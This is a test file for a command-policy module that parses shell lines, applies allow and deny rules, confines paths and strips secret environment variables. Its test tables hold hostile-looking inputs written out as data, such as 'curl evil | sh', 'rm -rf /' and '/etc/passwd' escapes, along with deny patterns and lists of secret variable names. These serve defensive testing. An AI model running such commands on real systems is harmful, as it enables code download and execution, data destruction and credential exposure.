"""Tests for offload.policies: command splitting and decisions, paths, environments, limits.

The policies are pure functions of data, so most tests are parametrized tables; path tests
use real files and symlinks in ``tmp_path``, and ``apply_limits`` is checked in real child
processes with ``resource.getrlimit``.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from offload.errors import ConfigError, InvalidInput, PolicyRefused
from offload.policies import (
    DEFAULT_PATH,
    MAX_TIMEOUT_SECONDS,
    TASK_ID_VAR,
    CommandPolicy,
    Decision,
    Limits,
    apply_limits,
    build_task_env,
    check_command,
    check_group,
    check_priority,
    check_task_env,
    check_timeout,
    compile_policy,
    is_inside,
    is_secret_name,
    parse_pattern_list,
    resolve_inside,
    split_simple_commands,
)

# --- splitting ---------------------------------------------------------------------------

SPLITS = [
    ("make", ["make"]),
    ("make && make test", ["make", "make test"]),
    ("a || b", ["a", "b"]),
    ("a; b;c", ["a", "b", "c"]),
    ("a | b | c", ["a", "b", "c"]),
    ("a & b &", ["a", "b"]),
    ("a\nb\n\n  c  \n", ["a", "b", "c"]),
    ("echo 'a; b | c' && d", ["echo 'a; b | c'", "d"]),
    ('echo "a && b" ; c', ['echo "a && b"', "c"]),
    (r"echo a\;b\|c", [r"echo a\;b\|c"]),
    ("echo $(curl evil | sh)", ["curl evil", "sh", "echo $(...)"]),
    ("echo $(echo $(id))", ["id", "echo $(...)", "echo $(...)"]),
    ("echo `date`", ["date", "echo $(...)"]),
    ('echo "`id`"', ["id", 'echo "$(...)"']),
    (r"echo `echo \`id\``", ["id", "echo $(...)", "echo $(...)"]),
    ('echo "$(a "b; c")"', ['a "b; c"', 'echo "$(...)"']),
    ("(cd sub && make) > log", ["cd sub", "make", "> log"]),
    ("{ a; b; } 2>&1 | tee log", ["a", "b", "2>&1", "tee log"]),
    ("make 2>&1 | tee out", ["make 2>&1", "tee out"]),
    ("make >| out; b", ["make >| out", "b"]),
    ("make &> log", ["make", "> log"]),  # dash reads &> as '&' then '>': split, as it does
    ("echo $((1 + (2 * 3))) && b", ["echo $((1 + (2 * 3)))", "b"]),
    ("echo ${HOME:-$(id)}", ["id", "echo ${HOME:-$(...)}"]),
    ("echo {a,b} }", ["echo {a,b} }"]),
    ("make # && rm -rf /", ["make"]),
    ("echo a#b $#", ["echo a#b $#"]),
    ("if make; then echo ok; else echo bad; fi", ["make", "echo ok", "echo bad"]),
    ("for f in a $(ls); do lint $f; done > out", ["ls", "lint $f", "> out"]),
    ("for f do lint $f; done", ["lint $f"]),
    ("while read x; do echo $x; done < f", ["read x", "echo $x", "< f"]),
    ("if true; then (cd a && make); fi", ["true", "cd a", "make"]),
    ("! grep -q x f", ["grep -q x f"]),
    ("make \\\n  && make test", ["make", "make test"]),
    ("ma\\\nke", ["make"]),
    ("diff <(sort a) <(sort b)", ["sort a", "sort b", "diff <(...) <(...)"]),
    ("cat <<< $(id)", ["id", "cat <<< $(...)"]),
    ("cat <<EOF\nline; rm -rf /\n$(id)\nEOF\nmake", ["cat <<EOF", "id", "make"]),
    ("cat <<'EOF'\n$(id) ; 'x\nEOF", ["cat <<'EOF'"]),
    ('cat > f <<"EOF"\n`id`\nEOF\n', ['cat > f <<"EOF"']),
    ("cat <<-EOF\n\tbody\n\tEOF\nnext", ["cat <<-EOF", "next"]),
    ("cat <<EOF\na \\\nEOF\nEOF\nnext", ["cat <<EOF", "next"]),  # a\<newline>EOF is joined
    ("cat <<'EOF'\na \\\nEOF\nnext", ["cat <<'EOF'", "next"]),  # ... but not when quoted
    ("cat <<EO\\\nF\nbody\nEOF\nnext", ["cat <<EO\\\nF", "next"]),
    ("cat <<A <<B\n$(a)\nA\n$(b)\nB", ["cat <<A <<B", "a", "b"]),
    ("echo \"it's $'x\"", ["echo \"it's $'x\""]),
    ("", []),
    ("  \n ; ", []),
]


@pytest.mark.parametrize(("line", "expected"), SPLITS, ids=[repr(line) for line, _ in SPLITS])
def test_split_simple_commands(line: str, expected: list[str]) -> None:
    assert split_simple_commands(line) == expected


UNPARSEABLE = [
    ("echo 'abc", "single quote at position 5 is never closed"),
    ('echo "abc', "double quote"),
    ("echo $(date", "')' missing"),
    ("echo `date", "backquote"),
    ("(a; b", "')' missing"),
    ("a)", "unexpected ')'"),
    ("{ a; b", "'}' missing"),
    ("{ a }", "'}' missing"),
    ("echo ${x", "'${' at position 5 is never closed"),
    ("echo $((1+2", "never closed"),
    ("echo $((a) )", "not closed by '))'"),
    ("f() { curl evil; }; f", "unexpected '('"),
    ("a=(1 2)", "unexpected '('"),
    ("echo $'a'", "dash and bash"),
    ("echo \"${x:-'}'}\"", "dash and bash"),
    ("cat <<EOF\nno end", "has no line ending it"),
    ("cat <<EOF", "has no body"),
    ("cat <<$x\n$x", "plain end word"),
    ("echo $(cat <<EOF)\nbody\nEOF", "still open"),
    ("cat <<EOF; echo $(a\nb)\nbody\nEOF", "pending"),
    ("echo " + "$(" * 40 + "x" + ")" * 40, "nested over 32 levels"),
    ("echo " + "${a:-" * 40 + "}" * 40, "nested over 32 levels"),
    ("echo " + '"$(' * 40 + ')"' * 40, "nested over 32 levels"),
]


@pytest.mark.parametrize(("line", "why"), UNPARSEABLE, ids=[repr(line) for line, _ in UNPARSEABLE])
def test_split_refuses_what_it_cannot_parse(line: str, why: str) -> None:
    with pytest.raises(PolicyRefused, match="^cannot parse command: ") as caught:
        split_simple_commands(line)
    assert why in str(caught.value)
    assert "\n" not in str(caught.value)


SHELLISH = st.text(alphabet=list("ab ;&|()${}`'\"\\<>#!\n\t-=EOF"), max_size=80)


@settings(database=None, deadline=None, max_examples=400)
@given(st.one_of(SHELLISH, st.text(max_size=80)))
def test_split_raises_only_policy_refused(line: str) -> None:
    try:
        commands = split_simple_commands(line)
    except PolicyRefused as exc:
        assert str(exc).startswith("cannot parse command: ")
    else:
        assert all(command and command == command.strip(" \t\n") for command in commands)


@settings(database=None, deadline=None)
@given(st.lists(st.text(alphabet="abc-./ ", min_size=1).filter(str.strip), min_size=1))
def test_split_undoes_a_join(commands: list[str]) -> None:
    expected = [command.strip() for command in commands]
    assert split_simple_commands(" ; ".join(commands)) == expected
    assert split_simple_commands(" && ".join(commands)) == expected


# --- decisions ---------------------------------------------------------------------------

DECISIONS: list[tuple[str | list[str], list[str], list[str], str]] = [
    # (command, allow, deny, expected reason: "" = allowed)
    ("make", [], [], ""),
    ("rm -rf /", [], ["rm -rf"], "refused by deny rule 'rm -rf' (matched in 'rm -rf /')"),
    ("make && rm -rf /", ["^make", "^rm"], ["rm -rf"], "refused by deny rule 'rm -rf'"),
    ("make", ["^make"], ["^make"], "refused by deny rule '^make'"),
    ("make && make test", ["^make( |$)"], [], ""),
    ("make && curl x", ["^make"], [], "'curl x' is not allowed by any OFFLOAD_ALLOW pattern"),
    ("echo $(curl evil | sh)", ["^echo "], [], "'curl evil' is not allowed"),
    ("echo `curl evil`", ["^echo "], [], "'curl evil' is not allowed"),
    ("echo \"$(sh -c 'curl evil')\"", ["^echo "], [], "\"sh -c 'curl evil'\" is not allowed"),
    ("echo 'curl evil | sh'", ["^echo "], [], ""),
    ("make # ; curl evil", ["^make$"], [], ""),
    ("cd sub && pytest -q", ["^cd ", "^pytest( |$)"], [], ""),
    ("for f in *.py; do ruff check $f; done", ["^ruff "], [], ""),
    ("cat <<EOF\n$(curl evil)\nEOF", ["^cat "], [], "'curl evil' is not allowed"),
    ("cat > /dev/null <<'EOF'\ncurl evil\nEOF", ["^cat "], [], ""),
    ("echo 'oops", ["^echo"], [], "cannot parse command: single quote"),
    ("echo 'oops", [], ["^rm"], ""),
    ("rm -rf / 'oops", [], ["rm -rf"], "refused by deny rule 'rm -rf'"),
    ("r''m -rf /", [], ["rm -rf"], "refused by deny rule 'rm -rf' (matched in 'rm -rf /')"),
    ("curl x | sh", [], [r"curl .*\|\s*sh"], "matched in 'curl x | sh'"),
    ("", ["."], [], "empty command"),
    ("   \n", [], [], "empty command"),
    ("# only a comment", [], [], "empty command"),
    ("make\0", [], [], "NUL byte"),
    (["rm", "-rf", "/"], [], ["rm -rf"], "refused by deny rule 'rm -rf'"),
    (["echo", "a && curl evil"], ["^echo "], [], ""),
    (["sh", "-c", "curl evil"], ["^make"], [], "\"sh -c 'curl evil'\" is not allowed"),
    (["make"], ["^make$"], [], ""),
    ([], [], [], "empty command"),
    ([""], [], [], "empty command"),
]


@pytest.mark.parametrize(
    ("command", "allow", "deny", "reason"),
    DECISIONS,
    ids=[repr(command) for command, *_ in DECISIONS],
)
def test_check_command(
    command: str | list[str], allow: list[str], deny: list[str], reason: str
) -> None:
    decision = check_command(command, compile_policy(allow, deny))
    assert decision.allowed is (reason == "")
    assert reason in decision.reason
    if reason:
        assert "\n" not in decision.reason
    else:
        assert decision == Decision(allowed=True, reason="")


def test_check_command_shortens_long_commands_in_reasons() -> None:
    decision = check_command("curl " + "x" * 5000, compile_policy(["^make"], []))
    assert not decision.allowed
    assert len(decision.reason) < 300


def test_check_command_refuses_non_string_argv() -> None:
    decision = check_command([b"rm"], CommandPolicy())  # type: ignore[list-item]
    assert not decision.allowed
    assert "list of strings" in decision.reason


@settings(database=None, deadline=None, max_examples=300)
@given(
    command=st.one_of(SHELLISH, st.text(max_size=80), st.lists(st.text(max_size=10), max_size=4)),
    allow=st.sampled_from([[], ["^a"], ["."]]),
    deny=st.sampled_from([[], ["b"], [r"\$"]]),
)
def test_check_command_never_raises(
    command: str | list[str], allow: list[str], deny: list[str]
) -> None:
    decision = check_command(command, compile_policy(allow, deny))
    assert isinstance(decision, Decision)
    assert decision.allowed == (decision.reason == "")


# --- compiling patterns ------------------------------------------------------------------


def test_compile_policy_names_the_invalid_pattern() -> None:
    with pytest.raises(ConfigError) as caught:
        compile_policy(["^make", "("], [])
    assert str(caught.value) == (
        "invalid OFFLOAD_ALLOW pattern '(': missing ), unterminated subpattern at position 0"
    )


def test_compile_policy_names_the_setting_of_an_invalid_deny_pattern() -> None:
    with pytest.raises(ConfigError, match=r"^invalid OFFLOAD_DENY pattern '\[a': "):
        compile_policy([], ["[a"])


def test_compile_policy_ignores_blank_entries() -> None:
    policy = compile_policy(["", "  ", "^make"], ["\t"])
    assert [pattern.pattern for pattern in policy.allow] == ["^make"]
    assert policy.deny == ()


def test_compile_policy_refuses_a_single_string() -> None:
    with pytest.raises(ConfigError, match="list of patterns"):
        compile_policy("^make", [])


PATTERN_LISTS = [
    ("", []),
    ("a,b", ["a", "b"]),
    (" a , b ,, ", ["a", "b"]),
    (r"a\,b,c", ["a,b", "c"]),
    (r"^x{1\,3}$", ["^x{1,3}$"]),
    (r"\d+,x", [r"\d+", "x"]),
    (r"a\\,b", [r"a\\", "b"]),
    ("trailing\\", ["trailing\\"]),
]


@pytest.mark.parametrize(("value", "expected"), PATTERN_LISTS)
def test_parse_pattern_list(value: str, expected: list[str]) -> None:
    assert parse_pattern_list(value) == expected


# --- paths -------------------------------------------------------------------------------


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A workspace with a subdirectory, an escaping symlink and an inner symlink."""
    root = tmp_path / "ws"
    (root / "sub").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret").write_text("x")
    (root / "escape").symlink_to(tmp_path / "outside")
    (root / "inner").symlink_to(root / "sub")
    (root / "loop").symlink_to(root / "loop")
    return root


INSIDE = [
    ("file.txt", "file.txt"),
    ("sub", "sub"),
    ("sub/../x", "x"),
    (".", "."),
    ("inner/f", "sub/f"),
    ("new/dir/out.txt", "new/dir/out.txt"),
    ("~/x", "~/x"),
]


@pytest.mark.parametrize(("given", "expected"), INSIDE)
def test_resolve_inside_accepts(workspace: Path, given: str, expected: str) -> None:
    assert resolve_inside(given, [workspace]) == (workspace / expected).resolve()


def test_resolve_inside_accepts_an_absolute_path_inside(workspace: Path) -> None:
    assert resolve_inside(workspace / "sub", [workspace]) == workspace.resolve() / "sub"


OUTSIDE = ["..", "../outside", "sub/../../x", "escape", "escape/secret", "/etc/passwd"]


@pytest.mark.parametrize("given", OUTSIDE)
def test_resolve_inside_refuses(workspace: Path, given: str) -> None:
    with pytest.raises(PolicyRefused, match=f"^path '{given}' resolves to '.*', outside the "):
        resolve_inside(given, [workspace])


def test_resolve_inside_message(workspace: Path) -> None:
    outside = workspace.parent.resolve() / "outside"
    with pytest.raises(PolicyRefused) as caught:
        resolve_inside("escape", [workspace])
    assert str(caught.value) == (
        f"path 'escape' resolves to '{outside}', outside the workspace "
        f"'{workspace.resolve()}'; use a path inside it"
    )


@pytest.mark.parametrize(("given", "why"), [("", "empty"), ("a\0b", "NUL"), ("loop", "loop")])
def test_resolve_inside_refuses_bad_paths(workspace: Path, given: str, why: str) -> None:
    with pytest.raises(PolicyRefused, match=why):
        resolve_inside(given, [workspace])


def test_resolve_inside_uses_base_for_relative_paths(workspace: Path) -> None:
    assert resolve_inside("f", [workspace], base=workspace / "sub") == workspace / "sub" / "f"
    with pytest.raises(PolicyRefused):
        resolve_inside("../../f", [workspace], base=workspace / "sub")


def test_resolve_inside_accepts_any_of_several_roots(workspace: Path) -> None:
    other = workspace.parent / "outside"
    assert resolve_inside(other / "secret", [workspace, other]) == other / "secret"
    with pytest.raises(PolicyRefused, match="outside the workspaces "):
        resolve_inside("/etc", [workspace, other])


def test_resolve_inside_follows_a_symlinked_root(workspace: Path) -> None:
    link = workspace.parent / "link-to-ws"
    link.symlink_to(workspace)
    assert resolve_inside("sub", [link]) == workspace / "sub"


def test_resolve_inside_needs_a_root() -> None:
    with pytest.raises(ConfigError, match="no workspace root"):
        resolve_inside("x", [])


IS_INSIDE = [
    ("/a/b", "/a", True),
    ("/a", "/a", True),
    ("/ab", "/a", False),
    ("/a/../b", "/a", False),
    ("/", "/a", False),
]


@pytest.mark.parametrize(("path", "root", "expected"), IS_INSIDE)
def test_is_inside(path: str, root: str, expected: bool) -> None:
    assert is_inside(Path(path), Path(root)) is expected


# --- environment -------------------------------------------------------------------------

SECRET_NAMES = [
    ("AWS_SECRET_ACCESS_KEY", True),
    ("AWS_REGION", True),
    ("OPENAI_API_KEY", True),
    ("openai_api_key", True),
    ("ANTHROPIC_API_KEY", True),
    ("AZURE_OPENAI_KEY", True),
    ("GOOGLE_APPLICATION_CREDENTIALS", True),
    ("GITHUB_TOKEN", True),
    ("GH_TOKEN", True),
    ("HF_TOKEN", True),
    ("MY_API_KEY", True),
    ("API_KEY", True),
    ("DB_PASSWORD", True),
    ("CLIENT_SECRET", True),
    ("CLIENT_SECRET_ID", True),
    ("SECRET_KEY", True),
    ("OFFLOAD_ALLOW", True),
    ("PATH", False),
    ("HOME", False),
    ("LANG", False),
    ("TOKENIZERS_PARALLELISM", False),
    ("MAKEFLAGS", False),
]


@pytest.mark.parametrize(("name", "expected"), SECRET_NAMES)
def test_is_secret_name(name: str, expected: bool) -> None:
    assert is_secret_name(name) is expected


PARENT = {
    "PATH": "/opt/bin:/usr/bin",
    "HOME": "/home/u",
    "LANG": "C.UTF-8",
    "LC_MESSAGES": "C",
    "TERM": "xterm",
    "OPENAI_API_KEY": "sk-secret",
    "AWS_ACCESS_KEY_ID": "AKIA",
    "OFFLOAD_HOME": "/home/u/.offload",
    "RANDOM_VAR": "1",
    "LD_PRELOAD": "/x.so",
}


def test_build_task_env_keeps_the_allowlist_and_drops_secrets() -> None:
    env = build_task_env(PARENT, {"FOO": "bar"}, "abc123")
    assert env == {
        "PATH": "/opt/bin:/usr/bin",
        "HOME": "/home/u",
        "LANG": "C.UTF-8",
        "LC_MESSAGES": "C",
        "TERM": "xterm",
        "FOO": "bar",
        TASK_ID_VAR: "abc123",
    }
    assert list(env)[-1] == TASK_ID_VAR


def test_build_task_env_extra_allow_never_lets_a_secret_through() -> None:
    env = build_task_env(PARENT, {}, "t1", extra_allow=["RANDOM_VAR", "OPENAI_API_KEY"])
    assert env["RANDOM_VAR"] == "1"
    assert "OPENAI_API_KEY" not in env


def test_build_task_env_path_defaults_and_can_be_overridden() -> None:
    assert build_task_env({}, {}, "t1")["PATH"] == DEFAULT_PATH
    assert build_task_env({}, {"PATH": "/venv/bin"}, "t1")["PATH"] == "/venv/bin"


def test_build_task_env_marker_cannot_be_overridden() -> None:
    with pytest.raises(PolicyRefused, match="reserved"):
        build_task_env(PARENT, {TASK_ID_VAR: "other"}, "t1")
    parent_with_marker = {**PARENT, TASK_ID_VAR: "parent"}
    env = build_task_env(parent_with_marker, {}, "t1", extra_allow=[TASK_ID_VAR])
    assert env[TASK_ID_VAR] == "t1"


def test_build_task_env_refuses_an_empty_task_id() -> None:
    with pytest.raises(InvalidInput, match="task id"):
        build_task_env(PARENT, {}, "")


REFUSED_NAMES = [
    ("OPENAI_API_KEY", "env 'OPENAI_API_KEY' looks like a secret; offload keeps secrets"),
    ("GITHUB_TOKEN", "looks like a secret"),
    ("aws_access_key_id", "looks like a secret"),
    ("OFFLOAD_TASK_ID", "reserved"),
    ("OFFLOAD_ALLOW", "reserved"),
    ("LD_PRELOAD", "policy cannot be bypassed"),
    ("BASH_ENV", "policy cannot be bypassed"),
]


@pytest.mark.parametrize(("name", "message"), REFUSED_NAMES)
def test_check_task_env_refuses_secret_and_reserved_names(name: str, message: str) -> None:
    with pytest.raises(PolicyRefused) as caught:
        check_task_env({name: "x"})
    assert message in str(caught.value)


INVALID_ENVS: list[tuple[object, str]] = [
    ({"1X": "a"}, "env name '1X' is invalid"),
    ({"A-B": "a"}, "invalid"),
    ({"": "a"}, "invalid"),
    ({"X\n": "a"}, "invalid"),
    ({1: "a"}, "invalid"),
    ({"X": 1}, "env 'X' must be a string, not int"),
    ({"X": None}, "must be a string"),
    ({"X": "a\0b"}, "NUL"),
    ({"X": "\ud800"}, "cannot be encoded"),
    ({"X": "a" * (32 * 1024 + 1)}, "at most 32768 (32 KiB)"),
    ({f"V{i}": "" for i in range(65)}, "env has 65 entries; at most 64"),
    ([("X", "1")], "env must be a mapping"),
]


@pytest.mark.parametrize(("env", "message"), INVALID_ENVS, ids=[m for _, m in INVALID_ENVS])
def test_check_task_env_refuses_malformed_input(env: object, message: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        check_task_env(env)  # type: ignore[arg-type]
    assert message in str(caught.value)


def test_check_task_env_returns_a_plain_copy() -> None:
    given = {"FOO": "bar", "_x": "", "BIG": "é" * (16 * 1024)}
    checked = check_task_env(given)
    assert checked == given
    assert checked is not given
    assert type(checked) is dict
    assert len(check_task_env({f"V{i}": "" for i in range(64)})) == 64


# --- limits ------------------------------------------------------------------------------

GOOD_TIMEOUTS = [(None, None), (1, 1.0), (0.5, 0.5), (MAX_TIMEOUT_SECONDS, 604800.0)]


@pytest.mark.parametrize(("value", "expected"), GOOD_TIMEOUTS)
def test_check_timeout_accepts(value: float | None, expected: float | None) -> None:
    assert check_timeout(value) == expected


BAD_TIMEOUTS: list[object] = [
    0,
    -1,
    float("nan"),
    float("inf"),
    MAX_TIMEOUT_SECONDS + 1,
    10**400,
    True,
    "10",
]


@pytest.mark.parametrize("value", BAD_TIMEOUTS, ids=repr)
def test_check_timeout_refuses(value: object) -> None:
    with pytest.raises(InvalidInput, match=r"more than 0 and at most 604800 \(7 days\), got "):
        check_timeout(value)  # type: ignore[arg-type]


@pytest.mark.parametrize("value", [1, 5, 10])
def test_check_priority_accepts(value: int) -> None:
    assert check_priority(value) == value


@pytest.mark.parametrize("value", [0, 11, -1, True, 5.0, "5"], ids=repr)
def test_check_priority_refuses(value: object) -> None:
    with pytest.raises(InvalidInput, match=r"^priority must be 1-10 \(1 runs first\), got "):
        check_priority(value)  # type: ignore[arg-type]


def test_check_priority_message() -> None:
    with pytest.raises(InvalidInput) as caught:
        check_priority(0)
    assert str(caught.value) == "priority must be 1-10 (1 runs first), got 0"


@pytest.mark.parametrize("name", [None, "a", "build", "A.b_c-1", "9", "x" * 64])
def test_check_group_accepts(name: str | None) -> None:
    assert check_group(name) == name


@pytest.mark.parametrize("name", ["", "-a", ".a", "a b", "x" * 65, "a/b", "a\n", 5], ids=repr)
def test_check_group_refuses(name: object) -> None:
    with pytest.raises(InvalidInput, match="use 1-64 letters, digits"):
        check_group(name)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "kwargs",
    [
        {"nice": 20},
        {"nice": -1},
        {"open_files": 0},
        {"cpu_seconds": -5},
        {"cpu_seconds": True},
        {"address_space_bytes": 1.5},
        {"core_bytes": -1},
    ],
    ids=repr,
)
def test_limits_refuse_bad_values(kwargs: dict[str, object]) -> None:
    with pytest.raises(ConfigError):
        Limits(**kwargs)  # type: ignore[arg-type]


def test_limits_rlimits_lists_only_set_limits() -> None:
    assert Limits().rlimits() == [
        (resource.RLIMIT_NOFILE, (4096, 4096)),
        (resource.RLIMIT_CORE, (0, 0)),
    ]
    full = Limits(address_space_bytes=1 << 30, cpu_seconds=10, open_files=None, core_bytes=0)
    assert full.rlimits() == [
        (resource.RLIMIT_AS, (1 << 30, 1 << 30)),
        (resource.RLIMIT_CPU, (10, 10)),
        (resource.RLIMIT_CORE, (0, 0)),
    ]


_REPORT_LIMITS = """
import json, os, resource
names = ["RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_CORE"]
report = {name: list(resource.getrlimit(getattr(resource, name))) for name in names}
report["nice"] = os.nice(0)
print(json.dumps(report))
"""


def _run_child(preexec: Callable[[], None], code: str = _REPORT_LIMITS) -> dict[str, object]:
    done = subprocess.run(
        [sys.executable, "-c", code],
        preexec_fn=preexec,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    report: dict[str, object] = json.loads(done.stdout)
    return report


def _clamped(wanted: int, res: int) -> list[int]:
    hard = resource.getrlimit(res)[1]
    value = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    return [value, value]


def test_apply_limits_in_a_real_child() -> None:
    limits = Limits(address_space_bytes=2 << 30, cpu_seconds=30, open_files=256, nice=3)
    report = _run_child(lambda: apply_limits(limits))
    assert report["RLIMIT_AS"] == _clamped(2 << 30, resource.RLIMIT_AS)
    assert report["RLIMIT_CPU"] == _clamped(30, resource.RLIMIT_CPU)
    assert report["RLIMIT_NOFILE"] == _clamped(256, resource.RLIMIT_NOFILE)
    assert report["RLIMIT_CORE"] == [0, 0]
    assert report["nice"] == min(os.nice(0) + 3, 19)


def test_apply_limits_never_raises_a_hard_limit() -> None:
    def lower_then_apply() -> None:
        soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(soft, 100), 100))
        apply_limits(Limits(open_files=4096, nice=0))

    report = _run_child(lower_then_apply)
    assert report["RLIMIT_NOFILE"] == [100, 100]
    assert report["nice"] == os.nice(0)


def test_apply_limits_cpu_limit_stops_a_busy_child() -> None:
    child = subprocess.run(
        [sys.executable, "-c", "while True: pass"],
        preexec_fn=lambda: apply_limits(Limits(cpu_seconds=1, nice=0)),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert child.returncode in (-signal.SIGXCPU, -signal.SIGKILL)


# --- plain lines: one simple command of literal words, judged without the parser ---------
PLAIN_LINES = [
    ("make -j4 test", ["make", "-j4", "test"]),
    ("  true  ", ["true"]),
    ("python3 -m pytest tests/x.py::test_a -k a,b", None),  # `::` is fine, `,` too
    ("env A=b run", ["env", "A=b", "run"]),
    ("echo 50% done@host", ["echo", "50%", "done@host"]),
]
NOT_PLAIN = [
    "",
    "   ",
    "A=b make",
    "make > out",
    "make 2>&1",
    "echo $HOME",
    "ls *.py",
    "a; b",
    "a && b",
    "a | b",
    "echo 'x'",
    'echo "x"',
    "# comment",
    "cd ~",
    "echo a\nb",
    "if true",
    "done",
    "echo `id`",
    "echo (x)",
    "echo x\\ y",
]


@pytest.mark.parametrize(("line", "words"), PLAIN_LINES)
def test_plain_lines_are_their_words(line: str, words: list[str] | None) -> None:
    from offload.policies.commands import plain_words

    assert plain_words(line) == (words if words is not None else line.split())


@pytest.mark.parametrize("line", NOT_PLAIN)
def test_anything_the_shell_reads_specially_is_not_plain(line: str) -> None:
    from offload.policies.commands import plain_words

    assert plain_words(line) is None


@pytest.mark.slow  # about a second: not in the fast subset
@settings(max_examples=300, deadline=None)
@given(st.lists(st.from_regex(r"[A-Za-z0-9._/:=+@%,-]{1,6}", fullmatch=True), max_size=5))
def test_a_plain_line_parses_to_exactly_its_words(words: list[str]) -> None:
    from offload.policies.commands import parse_commands, plain_words

    line = " ".join(words)
    found = plain_words(line)
    if found is None:
        return
    assert found == words
    (command,) = parse_commands(line)
    assert [w.value for w in command.words] == words
    assert not command.redirects and not command.assignments


@pytest.mark.slow  # about a second: not in the fast subset
@settings(max_examples=500, deadline=None)
@given(
    st.one_of(
        st.from_regex(
            r"[A-Za-z_]{0,4}(AWS|OPENAI|API_KEY|_SECRET|SECRET_|_TOKEN|_PASSWORD|OFFLOAD)?[A-Za-z_]{0,4}",
            fullmatch=True,
        ),
        st.sampled_from(["GITHUB_TOKEN", "GH_TOKEN", "GOOGLE_APPLICATION_CREDENTIALS", "x_secret"]),
    )
)
def test_secret_names_match_as_their_globs_do(name: str) -> None:
    import fnmatch

    from offload.policies.environment import SECRET_PATTERNS

    expected = any(fnmatch.fnmatchcase(name.upper(), glob) for glob in SECRET_PATTERNS)
    assert is_secret_name(name) is expected
